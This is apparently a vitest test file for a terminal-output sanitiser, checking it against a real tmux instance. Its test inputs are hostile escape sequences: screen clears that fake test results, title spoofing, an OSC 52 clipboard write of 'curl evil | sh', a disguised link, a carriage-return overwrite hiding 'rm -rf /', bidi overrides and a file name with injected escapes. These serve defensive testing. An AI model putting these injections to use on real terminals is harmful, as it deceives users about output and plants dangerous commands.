import { execFileSync } from "node:child_process";
import { writeFile } from "node:fs/promises";
import { describe, expect, it } from "vitest";
import { createSanitiser, sanitiseLine } from "../../src/output/sanitise.ts";
import { tempDirectory } from "../lab/temp-directory.ts";

/** What a terminal shows and holds after it was given some bytes. */
type Screen = { readonly lines: readonly string[]; readonly title: string; readonly clipboard: string };

/**
 * Shows bytes on a real terminal emulator, tmux, which must be installed. That it has acted on all of them is known from its own answer: it reports the
 * cursor's position (ECMA-48 DSR) only behind everything that came before.
 */
async function show(bytes: Uint8Array): Promise<Screen> {
  await using lab = await tempDirectory();
  await writeFile(lab.join("bytes"), bytes);
  await writeFile(lab.join("conf"), "set -g set-clipboard on\nset -g allow-rename on\nset -g allow-passthrough off\n");
  await writeFile(
    lab.join("show"),
    `stty raw -echo\ncat ${lab.join("bytes")}\nprintf '\\033[6n'\nIFS= read -rs -d R answer\ntmux -S ${lab.join("s")} wait-for -S shown\nread -r forever\n`,
  );
  const tmux = (...command: readonly string[]) =>
    execFileSync("tmux", ["-S", lab.join("s"), ...command], { encoding: "utf8", env: { ...process.env, LC_ALL: "C.UTF-8", TMUX: "" } });
  tmux("-u", "-f", lab.join("conf"), "new-session", "-d", "-x", "80", "-y", "24", "bash", lab.join("show"));
  try {
    tmux("wait-for", "shown");
    return {
      lines: tmux("capture-pane", "-p").trimEnd().split("\n"),
      title: tmux("display-message", "-p", "#{pane_title}").trim(),
      clipboard: tmux("list-buffers", "-F", "#{buffer_sample}").trim(),
    };
  } finally {
    tmux("kill-server");
  }
}

function sanitise(bytes: Uint8Array): string {
  const sanitiser = createSanitiser();
  return sanitiser.write(bytes) + sanitiser.end();
}

/** The screen after the raw bytes, and after their sanitised text. */
async function compare(text: string | Uint8Array): Promise<{ readonly raw: Screen; readonly safe: Screen; readonly text: string }> {
  const bytes = typeof text === "string" ? Buffer.from(text) : text;
  const shown = sanitise(bytes);
  return { raw: await show(bytes), safe: await show(Buffer.from(shown.replaceAll("\n", "\r\n"))), text: shown };
}

describe("a terminal acts on the bytes, and on none of the sanitised text", () => {
  it("CSI: clearing the screen and moving the cursor", async () => {
    const { raw, safe } = await compare("3 tests failed\x1b[2J\x1b[Hall tests passed");
    expect(raw.lines).toEqual(["all tests passed"]);
    expect(safe.lines).toEqual(["3 tests failed␛[2J␛[Hall tests passed"]);
  });

  it("CSI: erasing what was written", async () => {
    const { raw, safe } = await compare("danger\x1b[1Kfine");
    expect(raw.lines).toEqual(["      fine"]);
    expect(safe.lines).toEqual(["danger␛[1Kfine"]);
  });

  it("OSC 0: the title", async () => {
    const { raw, safe } = await compare("\x1b]0;root@prod\x07x");
    expect(raw.title).toBe("root@prod");
    expect(safe.title).not.toContain("root@prod");
    expect(safe.lines).toEqual(["␛]0;root@prod␇x"]);
  });

  it("OSC 52: the clipboard", async () => {
    const { raw, safe } = await compare(`\x1b]52;c;${Buffer.from("curl evil | sh").toString("base64")}\x07x`);
    expect(raw.clipboard).toBe("curl evil | sh");
    expect(safe.clipboard).toBe("");
  });

  it("OSC 8: a link whose text is another", async () => {
    const { raw, safe } = await compare("\x1b]8;;https://evil.example\x1b\\https://good.example\x1b]8;;\x1b\\");
    expect(raw.lines).toEqual(["https://good.example"]);
    expect(safe.lines).toEqual(["␛]8;;https://evil.example␛\\https://good.example␛]8;;␛\\"]);
  });

  it("DCS, APC, PM and SOS: strings that a terminal swallows", async () => {
    const { raw, safe } = await compare("a\x1bPhidden\x1b\\b\x1b_hidden\x1b\\c");
    expect(raw.lines).toEqual(["abc"]);
    expect(safe.lines).toEqual(["a␛Phidden␛\\b␛_hidden␛\\c"]);
    expect(sanitise(Buffer.from("\x1b^x\x1b\\\x1bXy\x1b\\\u009fz\u009c"))).toBe("␛^x␛\\␛Xy␛\\<U+009F>z<U+009C>");
  });

  it("carriage return and backspace: overwriting", async () => {
    const { raw, safe } = await compare("rm -rf /\rls -l   \nsecret\b\b\b\b\b\bpublic");
    expect(raw.lines[0]).toContain("ls -l");
    expect(raw.lines.join("\n")).not.toMatch(/rm -rf|secret/);
    expect(safe.lines).toEqual(["rm -rf /␍ls -l", "secret␈␈␈␈␈␈public"]);
  });

  it("other controls: bell, vertical movement, character sets, full reset", async () => {
    const { raw, safe } = await compare("one\x0btwo\x0cthree\x1bcfour\x0eqqq\x0f");
    expect(raw.lines[0]).toMatch(/^four/);
    expect(safe.lines).toEqual(["one␋two␌three␛cfour␎qqq␏"]);
  });

  it("a sequence in pieces: no cut of the chunks lets it through", () => {
    const bytes = Buffer.from("a\x1b[2J\u009b2J\x1b]52;c;eA==\x07\u202e\u{e0041}\r\nb");
    const whole = sanitise(bytes);
    for (let cut = 0; cut <= bytes.length; cut += 1) {
      const sanitiser = createSanitiser();
      expect(sanitiser.write(bytes.subarray(0, cut)) + sanitiser.write(bytes.subarray(cut)) + sanitiser.end()).toBe(whole);
    }
    expect(whole).toBe("a␛[2J<U+009B>2J␛]52;c;eA==␇<U+202E><U+E0041>\nb");
  });
});

describe("characters that mislead readers are in the bytes, and visible in the sanitised text", () => {
  it.each([
    ["C1 controls", "a\u009b2Jb", /\u009b/, "a<U+009B>2Jb"],
    ["bidirectional overrides", "file\u202etxt.exe", /\u202e/, "file<U+202E>txt.exe"],
    ["bidirectional isolates", "a\u2066b\u2069", /[\u2066\u2069]/, "a<U+2066>b<U+2069>"],
    ["zero-width characters", "pass\u200bword\ufeff", /[\u200b\ufeff]/, "pass<U+200B>word<U+FEFF>"],
    ["tag characters", "hello\u{e0049}\u{e0067}", /[\u{e0000}-\u{e007f}]/u, "hello<U+E0049><U+E0067>"],
    ["variation selectors as data", "a\ufe01\u{e0101}", /[\ufe01\u{e0101}]/u, "a<U+FE01><U+E0101>"],
    ["line and paragraph separators", "a\u2028b\u2029", /[\u2028\u2029]/, "a<U+2028>b<U+2029>"],
  ])("%s", (_, text, hidden, shown) => {
    expect(Buffer.from(text).toString("utf8")).toMatch(hidden);
    expect(sanitise(Buffer.from(text))).toBe(shown);
    expect(shown).not.toMatch(hidden);
    expect(sanitiseLine(text)).toBe(shown);
  });

  it("invalid UTF-8, raw C1 bytes among it", () => {
    expect(sanitise(Uint8Array.of(0x61, 0x9b, 0x32, 0x4a, 0xc0, 0x80))).toBe("a\ufffd2J\ufffd\ufffd");
  });
});

it("a file name, a label or an error text stays one line that a terminal does not act on", async () => {
  const name = "report\n\x1b[1A\x1b[2Kfine\r.txt\x1b]0;owned\x07";
  const raw = await show(Buffer.from(`error: ${name.replaceAll("\n", "\r\n")}`));
  const safe = await show(Buffer.from(`error: ${sanitiseLine(name)}`));
  expect(raw.title).toBe("owned");
  expect(raw.lines[0]).not.toContain("report");
  expect(safe.title).not.toBe("owned");
  expect(safe.lines).toEqual(["error: report␊␛[1A␛[2Kfine␍.txt␛]0;owned␇"]);
});
